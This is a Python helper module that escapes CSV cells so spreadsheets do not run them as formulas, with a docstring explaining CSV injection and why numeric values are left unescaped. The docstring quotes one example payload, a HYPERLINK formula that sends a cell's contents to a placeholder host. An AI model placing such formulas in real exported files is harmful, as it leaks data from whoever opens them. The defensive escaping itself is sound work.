"""Cells that come from the data (labels, class names, paths) written into CSV files safely.

A CSV opened in Excel or LibreOffice runs a cell that starts with `=`, `+`, `-` or `@` as a
formula (and a leading tab or carriage return can hide one), so a label such as
`=HYPERLINK("http://x/?"&A2)` in a manifest would act when someone opens predictions.csv.
OWASP's guidance (CSV Injection) is to prefix such cells with a single quote, which the
spreadsheet shows as text and drops from the displayed value.

Plain numbers are left alone: `-0.5`, `+3` or `1e-3` are values, not formulas, a spreadsheet
reads them as the same number either way, and a quote would turn a numeric class name such
as `-1` into text that no longer matches the label in the data.
"""

from __future__ import annotations

import re

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def spreadsheet_safe(cell: object) -> str:
    """`cell` as text, with a leading `'` when a spreadsheet would read it as a formula."""
    text = str(cell)
    if text.startswith(_FORMULA_START) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text
